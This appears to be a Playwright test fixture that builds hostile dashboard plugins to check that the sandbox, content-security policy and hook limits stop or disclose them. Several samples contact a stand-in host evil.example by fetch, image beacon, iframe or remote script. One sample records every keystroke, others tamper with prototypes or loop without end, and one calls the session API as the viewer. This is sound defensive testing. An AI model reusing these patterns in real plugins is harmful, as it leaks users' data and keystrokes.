import type { Page } from '@playwright/test'
import type { craftFiles } from '../tests/support/plugins/craft-package.ts'

type ManifestInput = Parameters<typeof craftFiles>[0]

/** Something hostile that a plugin tries whose code runs in the page itself. */
export interface PageAttempt {
  readonly name: string
  readonly page?: string
  readonly boot?: string
  readonly capabilities?: ManifestInput['capabilities']
  readonly registers?: (id: string) => ManifestInput['registers']
  /** Sentences of the consent beside that of all code in the page. */
  readonly says?: readonly string[]
  /** Words that its page comes to show. */
  readonly shows?: string | RegExp
  /** The reason that staff read in its row. */
  readonly told?: RegExp
  /** True for a fault that switches it off for everybody. */
  readonly isOff?: boolean
  /** A value of the page, while it is on and in a new page once it is off. */
  readonly leaves?: {
    readonly read: (page: Page) => Promise<unknown>
    readonly on: unknown
    readonly off: unknown
  }
}

const fine = `import { jsx } from 'react/jsx-runtime'
export default () => jsx('p', { children: 'Nothing wrong here' })`

/** Shows what an effect says: the code calls \`say\`, and has the plugin's \`host\`. */
const showing = (code: string) => `import { useHost } from '@spawnpoint/sdk/browser'
import { useEffect, useState } from 'react'
import { jsx } from 'react/jsx-runtime'
export default function Attempt() {
  const host = useHost()
  const [said, add] = useState([])
  useEffect(() => {
    const say = (line) => add((lines) => [...lines, line])
    ${code}
  }, [host])
  return jsx('p', { children: said.length > 0 ? said.join(', ') : 'Nothing yet' })
}`

/** Tries to reach a stranger's host, and shows the directive of the policy that kept it from that. */
const reaching = (code: string) =>
  showing(`document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => say('stopped by ' + effectiveDirective))
    const put = (tag, more) => document.body.append(Object.assign(document.createElement(tag), more))
    ${code}`)

const start = 'It has start-up code'
const runs =
  'Runs for every visitor before the dashboard opens, and notices every change of page, language, settings and plugins'
const opacity = (page: Page) => page.evaluate(() => getComputedStyle(document.body).opacity)
const years = (id: string) => ({ routes: [{ path: `/p/${id}/years/*`, title: 'Years' }] })

/** Hooks that code of an added plugin may tap, but for the access check, which closes the page. */
const hooks = [
  'afterSession',
  'resolvePermission',
  'registerRoutes',
  'registerAdminPage',
  'registerDebugTab',
  'registerSlot',
  'registerWidget',
  'registerCommand',
  'beforeNavigate',
  'routeChanged',
  'localeChanged',
  'settingsChanged',
  'pluginStateChanged',
]

const ofPolicy: readonly PageAttempt[] = [
  {
    name: 'sends data to a stranger',
    page: reaching(`fetch('https://evil.example/x').catch(() => {})`),
    shows: 'stopped by connect-src',
  },
  {
    name: 'puts a page of a stranger over the dashboard',
    page: reaching(`put('iframe', { src: 'https://evil.example/' })`),
    shows: 'stopped by frame-src',
  },
  {
    name: 'sends data with the address of a picture',
    page: reaching(`put('img', { src: 'https://evil.example/?x' })`),
    shows: 'stopped by img-src',
  },
  {
    name: 'loads a script of a stranger',
    page: showing(
      `try { document.createElement('script').src = 'https://evil.example/x.js'; say('taken') } catch { say('refused') }`,
    ),
    shows: 'refused',
  },
  {
    name: 'runs text as code',
    page: showing(`try { new Function('return 1')(); say('taken') } catch { say('refused') }`),
    shows: 'refused',
  },
  {
    name: 'puts a style element into the page',
    page: reaching(`put('style', { textContent: 'body { opacity: 0.5 }' })`),
    shows: 'stopped by style-src-elem',
    leaves: { read: opacity, on: '1', off: '1' },
  },
]

const ofStyles: readonly PageAttempt[] = [
  {
    name: 'changes the look of the whole dashboard by a script, again and again',
    page: showing(`const turn = (left) => {
      const sheet = new CSSStyleSheet()
      sheet.replaceSync('body { opacity: 0.5 }')
      document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet]
      if (left > 0) host.clock.setTimeout(() => turn(left - 1), 2_500)
    }
    turn(3)`),
    told: /styles: Error: E_STYLES/,
    isOff: true,
    leaves: { read: opacity, on: '1', off: '1' },
  },
  {
    name: 'puts a rule between those of the dashboard, again and again',
    page: showing(`const group = [...document.styleSheets].flatMap((sheet) => [...sheet.cssRules]).find((rule) => rule instanceof CSSGroupingRule)
    const turn = (left) => {
      group.insertRule('body { opacity: 0.5 !important }', 0)
      if (left > 0) host.clock.setTimeout(() => turn(left - 1), 2_500)
    }
    turn(3)`),
    told: /styles: Error: E_STYLES/,
    isOff: true,
    leaves: { read: opacity, on: '1', off: '1' },
  },
]

const ofHooks: readonly PageAttempt[] = [
  {
    name: 'throws in each hook',
    boot: `export default (hooks) => {
  for (const name of ${JSON.stringify(hooks)}) hooks.on(name, () => { throw new Error('no ' + name) })
}`,
    capabilities: ['hooks.session', 'hooks.register', 'navigate'],
    registers: years,
    says: [
      start,
      runs,
      'See every login, with email address, limits and permissions, and withhold permissions from users in their browser',
      'Send users to other pages; with start-up code, see and cancel every page change',
      'Add pages, tabs, cards, commands and elements on other pages with its start-up code (listed below)',
    ],
    told: /Error: no \w+/,
    isOff: true,
  },
  {
    name: 'adds pages without an end',
    boot: `export default (hooks) => hooks.on('registerRoutes', (routes) => {
  for (let at = 0; ; at += 1)
    routes.add({ id: 'year-' + at, path: '/p/ID/years/' + at, area: 'user', module: 'page', title: 'Years' })
})`,
    capabilities: ['hooks.register'],
    registers: years,
    says: [start, 'Adds pages (“Years”) below /p/'],
    told: /registerRoutes: .*E_REGISTER .*more than 200 entries/,
  },
  {
    name: 'taps a hook without an end',
    boot: `export default (hooks) => { for (;;) hooks.on('localeChanged', () => {}) }`,
    says: [start, runs],
    told: /boot: .*E_HOOK .*more than 100 taps/,
  },
  {
    name: 'adds a page of somebody else',
    boot: `export default (hooks) => hooks.on('registerRoutes', (routes) =>
  routes.add({ id: 'coins', path: '/coins', area: 'user', module: 'page', title: 'Coins' }))`,
    capabilities: ['hooks.register'],
    registers: years,
    says: [start],
    told: /E_REGISTER .*\/coins is not below/,
  },
  {
    name: 'taps a hook that it was not granted',
    boot: `export default (hooks) => hooks.on('afterSession', () => {})`,
    says: [start, runs],
    told: /E_CAPABILITY .*add "hooks.session"/,
  },
]

const ofHost: readonly PageAttempt[] = [
  {
    name: 'reaches for what it was not granted',
    page: showing(`const attempts = [() => host.storage.set('a', 'b'), () => host.notify.toast({ title: 'x' }),
      () => host.navigate('/coins'), () => host.session.getState(), () => host.can('admin.root')]
    for (const each of attempts) try { each(); say('taken') } catch (error) { say(/E_CAPABILITY \\S+ add "[\\w.]+"/.exec(String(error))?.[0] ?? String(error)) }`),
    shows:
      /^E_CAPABILITY \S+ add "storage", E_CAPABILITY \S+ add "notify", E_CAPABILITY \S+ add "navigate", E_CAPABILITY \S+ add "session.profile", E_CAPABILITY \S+ add "session.profile"$/,
  },
  {
    name: 'throws in timers and in promises of its own',
    page: showing(`for (let at = 0; at < 2; at += 1) setTimeout(() => { throw new Error('from a timer') }, 0)
    void Promise.reject(new Error('from a promise'))`),
    told: /uncaught error: Error: from a (timer|promise)/,
    isOff: true,
  },
]

/** In the page nothing keeps code from these; the consent says so, and nothing is left of them in a new page. */
const ofPage: readonly PageAttempt[] = [
  {
    name: 'changes a prototype',
    boot: `export default () => { String.prototype.mine = function () { return 'patched' } }`,
    says: [start, runs],
    leaves: { read: (page) => page.evaluate(() => 'mine' in String.prototype), on: true, off: false },
  },
  {
    name: 'listens on the keys of every page',
    boot: `export default () => { window.keys = []; document.addEventListener('keydown', ({ key }) => window.keys.push(key)) }`,
    says: [start, runs],
    leaves: {
      read: async (page) => {
        await page.keyboard.press('a')
        return page.evaluate(() => (Reflect.get(window, 'keys') as string[] | undefined)?.at(-1) ?? null)
      },
      on: 'a',
      off: null,
    },
  },
  {
    name: 'changes an element of the dashboard',
    page: showing(`document.body.style.opacity = '0.5'`),
    leaves: { read: opacity, on: '0.5', off: '1' },
  },
  {
    name: 'calls the dashboard as the person who looks at it',
    page: showing(`fetch('/api/user/session').then(({ status }) => say('answered ' + status))`),
    shows: 'answered 200',
  },
]

/** All attempts; the consent of each says that code in the page has its visitor's access. */
export const pageAttempts: readonly PageAttempt[] = [
  ...ofPolicy,
  ...ofStyles,
  ...ofHooks,
  ...ofHost,
  ...ofPage,
]

/** The files of a plugin that makes one of the attempts. */
export function pageAttempt(id: string, { page = fine, boot, capabilities = [], registers }: PageAttempt) {
  const given = registers?.(id)
  const manifest: ManifestInput = {
    id,
    version: '1.0.0',
    title: `The ${id}`,
    description: 'For a journey',
    capabilities,
    modules: { page: 'browser/page.js', ...(boot === undefined ? {} : { boot: 'browser/boot.js' }) },
    ...(boot === undefined ? {} : { boot: 'boot' }),
    ...(given ? { registers: given } : {}),
    contributes: {
      routes: [{ id, path: `/p/${id}`, area: 'user', module: 'page', title: `The ${id}` }],
      nav: [{ area: 'user', route: id, label: `The ${id}`, icon: 'Hand', order: 900 }],
    },
  }
  const files = {
    'browser/page.js': page,
    ...(boot === undefined ? {} : { 'browser/boot.js': boot.replaceAll('ID', id) }),
  }
  return { manifest, files }
}
